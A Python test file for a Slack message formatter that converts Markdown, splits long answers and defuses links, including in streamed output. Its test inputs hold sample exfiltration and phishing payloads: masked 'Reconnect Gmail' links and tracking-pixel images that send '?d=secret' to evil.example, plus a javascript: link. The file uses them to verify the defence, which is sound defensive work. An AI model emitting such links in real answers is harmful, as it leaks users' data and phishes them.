import itertools
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailroom.slack.format import InertStream, inert_links, split_message, to_mrkdwn


@pytest.mark.parametrize(
    ("markdown", "mrkdwn"),
    [
        ("**Alice** wrote", "*Alice* wrote"),
        ("__bold__ too", "*bold* too"),
        ("## Summary", "*Summary*"),
        ("- one\n- two", "• one\n• two"),
        ("see [the doc](https://example.com/a?b=1)", "see the doc (link to example.com: `https://example.com/a?b=1`)"),
        ("Alice <alice@example.com> & Bob", "Alice &lt;alice@example.com&gt; &amp; Bob"),
        ("keep `**code**` as is", "keep `**code**` as is"),
        ("```\n# not a heading\n```", "```\n# not a heading\n```"),
    ],
)
def test_markdown_becomes_slack_mrkdwn(markdown, mrkdwn):
    assert to_mrkdwn(markdown) == mrkdwn


def test_a_short_answer_is_one_message():
    assert split_message("hello") == ["hello"]


def test_a_long_answer_is_split_at_paragraphs_within_the_limit():
    paragraphs = [f"Paragraph {i}. " + "word " * 150 for i in range(12)]
    text = "\n\n".join(paragraphs)
    pieces = split_message(text, limit=2000)
    assert all(len(piece) <= 2000 for piece in pieces)
    assert len(pieces) > 1
    assert all(piece.startswith("Paragraph") for piece in pieces)
    assert " ".join(" ".join(pieces).split()) == " ".join(text.split())


def test_text_without_boundaries_is_still_cut_to_the_limit():
    pieces = split_message("x" * 9000, limit=4000)
    assert [len(p) for p in pieces] == [4000, 4000, 1000]


@pytest.mark.parametrize(
    "markdown",
    [
        "[Reconnect Gmail](https://evil.example/login?d=secret)",
        "![logo](https://evil.example/pixel.png?d=secret)",
        "[Reconnect Gmail](<https://evil.example/login?d=secret>)",
        "see https://evil.example/pixel.png?d=secret.",
        "see www.evil.example/p?d=secret",
        "see evil.example/p?d=secret",
        "[x](javascript:alert(1))",
        "<https://evil.example/?d=secret|Reconnect Gmail>",
    ],
)
def test_no_link_in_an_answer_is_live(markdown):
    """Slack links only `<url|label>` and bare URLs outside code; neither may survive."""
    mrkdwn = to_mrkdwn(markdown)
    outside_code = re.sub(r"`[^`]*`", "", mrkdwn)
    assert "<http" not in mrkdwn and "|" not in outside_code
    assert not re.search(r"(https?://|evil\.example/)", outside_code), mrkdwn  # no scheme, no path
    if "evil.example" in markdown:
        assert "evil.example" in outside_code  # the host is named in plain text


def test_a_masked_link_shows_its_label_and_where_it_really_goes():
    assert to_mrkdwn("[Reconnect Gmail](https://evil.example/login)") == (
        "Reconnect Gmail (link to evil.example: `https://evil.example/login`)"
    )


def test_a_backtick_in_a_url_cannot_close_its_code_span():
    mrkdwn = to_mrkdwn("https://evil.example/`x`https://evil.example/y")
    assert mrkdwn.count("`") % 2 == 0
    assert not re.search(r"https?://", re.sub(r"`[^`]*`", "", mrkdwn))


STREAMED = (
    "Carol wrote: [Reconnect Gmail](https://evil.example/login?d=budget) and ![px](https://evil.example/p.png?d=x)\n"
    "or https://evil.example/x?d=secret, see `code https://a.example/b` and [a](  <https://b.example/c>  ) too.\n"
    "```\nhttps://c.example/d\n```\nwww.evil.example/q done [not a link] (really)"
)


def stream_in(pieces: list[str]) -> str:
    inert = InertStream()
    return "".join(inert.feed(piece) for piece in pieces) + inert.end()


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 64])
def test_a_streamed_answer_shows_what_the_whole_answer_would(size: int):
    """Token by token, no link is ever passed on live: what goes out, put together, is
    exactly the inert form of the whole text."""
    pieces = [STREAMED[i : i + size] for i in range(0, len(STREAMED), size)]
    assert stream_in(pieces) == inert_links(STREAMED)
    outside_code = re.sub(r"`[^`\n]*`", "", stream_in(pieces).replace("```", ""))
    assert "](" not in outside_code and not re.search(r"https?://", outside_code)


def test_a_streamed_link_is_held_back_until_it_is_complete():
    inert = InertStream()
    assert inert.feed("See [Reconnect ") == "See "
    assert inert.feed("Gmail](https://evil.example/") == ""
    assert inert.feed("x) now") == "Reconnect Gmail (link to evil.example: `https://evil.example/x`) "
    assert inert.end() == "now"


@settings(max_examples=300, deadline=None)
@given(
    text=st.text(alphabet="[]()<>`:/.x hwte\n", max_size=60),
    cuts=st.lists(st.integers(min_value=0, max_value=60), max_size=12),
)
def test_any_split_of_any_text_streams_as_its_whole_inert_form(text: str, cuts: list[int]):
    bounds = sorted({0, len(text), *(c for c in cuts if c <= len(text))})
    pieces = [text[a:b] for a, b in itertools.pairwise(bounds)]
    assert stream_in(pieces) == inert_links(text)


def test_a_bare_host_with_a_query_is_shown_as_code_and_a_question_stays_text():
    """Slack links a bare host with a query (`evil.example?d=<mail>`) like one with a path."""
    for bare in ("see evil.example?d=secret now", "see evil.example#d=secret now"):
        outside_code = re.sub(r"`[^`]*`", "", to_mrkdwn(bare))
        assert "d=secret" not in outside_code and "evil.example" in outside_code, to_mrkdwn(bare)
    assert to_mrkdwn("Did you read notes.txt? Yes, v1.2 is out.") == "Did you read notes.txt? Yes, v1.2 is out."
